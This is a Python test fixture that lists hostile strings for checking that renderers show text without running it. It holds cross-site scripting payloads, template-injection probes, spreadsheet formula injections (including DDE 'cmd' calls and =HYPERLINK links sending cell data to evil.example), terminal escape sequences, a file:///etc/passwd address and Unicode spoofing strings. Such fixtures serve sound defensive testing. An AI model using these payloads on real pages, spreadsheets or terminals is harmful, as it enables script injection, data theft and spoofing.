"""Texts made to act instead of being read: every renderer must show each of them as the text that it is."""

__all__ = ["HOSTILE", "PWNED"]

PWNED = "pwned-by-a-text"
"""What a page is called once a text has run as a script; no page may be."""

_RUN = f"document.title='{PWNED}'"
_FAR = "http://evil.example"

_SCRIPT = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</template></textarea></noscript><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\t>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<!--<script>--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"<\x00script>{_RUN}</script>",
)

_MARKUP = (
    f'<img src=x onerror="{_RUN}">',
    f'"><img src=x onerror="{_RUN}">',
    f"' onfocus={_RUN} autofocus tabindex=1 x='",
    f'" onmouseover="{_RUN}" x="',
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x></svg>",
    f"<svg><desc><![CDATA[</desc><script>{_RUN}</script>]]></svg>",
    f'<a href="javascript:{_RUN}">click</a>',
    f"<details open ontoggle={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<object data="{_FAR}/o.swf"></object><embed src="{_FAR}/e.swf">',
    f'<meta http-equiv="refresh" content="0;url={_FAR}">',
    f'<base href="{_FAR}/">',
    f'<link rel="stylesheet" href="{_FAR}/x.css">',
    f'<form action="{_FAR}"><button autofocus>send</button></form>',
    f'<style>@import "{_FAR}/x.css"; * {{ display: none }}</style>',
    f'<p style="background:url({_FAR}/x.png)">',
    "</details></td></tr></table></section></main></body></html>",
    "</bdi></data></th></summary></figure>",
    "<!-- a comment that never ends",
    "<!--contents-->",
    "<plaintext>",
    "&lt;b&gt;bold&lt;/b&gt; &amp;amp; &nbsp;",
)

_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "https://bank.example@evil.example/",
    "https://b\u0430nk.example/",
    "//evil.example/x",
)

_TEMPLATES = (
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "{% raw %}{# gone #}{% for i in (1, 2) %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('return 1')()}}",
    "%s%n%x {0} {0.__class__}",
    "$(touch pwned) `touch pwned`",
)

_FORMULAS = (
    f'=HYPERLINK("{_FAR}/?"&A1,"see here")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '";=1+1;"',
    f'=IMPORTXML("{_FAR}","//a")',
)

_MARKDOWN = (
    f"![x]({_FAR}/x.png)",
    f"[click](javascript:{_RUN})",
    f"<{_FAR}/auto>",
    f"[x]: {_FAR} 'y'",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b || c",
    "```\nfence\n```",
    "# heading\n\n---\n\n> quote",
    "**bold** _it_ ~~gone~~ `code` \\* \\",
    "@everyone #1 see owner/repository#2",
    "$$\\href{javascript:x}{y}$$",
)

_TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H wiped",
    f"\x1b]8;;{_FAR}\x07link\x1b]8;;\x07",
    "\x1b]0;another title\x07",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x9b31mred",
    "\x90q\x9c",
    "over\rwritten",
    "gone\b\b\b\b",
    "bell\x07 null\x00 delete\x7f",
    "\x0e shifted \x0f",
    "line\x85one\u2028two\u2029three\x0b\x0cfour",
    f"[link={_FAR}]x[/link] [bold red]not bold[/bold red] [/]",
    ":smile: :skull:",
)

_UNICODE = (
    "\u202edrow a ,desrever\u202c",
    "\u2066isolated\u2069 \u2067\u202b\u202anested",
    "never closed \u202e\u2067",
    "user\u202egnp.exe",
    "pass\u200bword \u2060 \ufeff",
    "\U000e0041\U000e0042\U000e0043 tags",
    "\ud800lone", "lone\udfff", "\udc00\ud800",
    "\u05ea\u05d5\u05d3\u05d4 \u05e8\u05d1\u05d4 12 (34)",
    "\u0645\u0631\u062d\u0628\u0627 \u200f\u200e",
    "Z" + "\u0300\u0301\u0302\u0303" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\ufffe\uffff\U0010ffff",
    "\u3164\u115f\u00ad\u180e blank",
    "\uff21\uff22\uff23 \u212a \u017f \ufb01",
)  # fmt: skip

_ODD = (
    "",
    " ",
    "\n\n\n",
    "\t",
    "0",
    "NaN",
    "None",
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "-",
    "–",
    "'",
    '"',
    "\\",
    "word" * 30_000,
    "long words of a text " * 5_000,
    "<" * 20_000,
    "\x00" * 20_000,
)

HOSTILE: tuple[str, ...] = (
    *_SCRIPT, *_MARKUP, *_ADDRESSES, *_TEMPLATES, *_FORMULAS, *_MARKDOWN, *_TERMINAL, *_UNICODE, *_ODD,
)  # fmt: skip
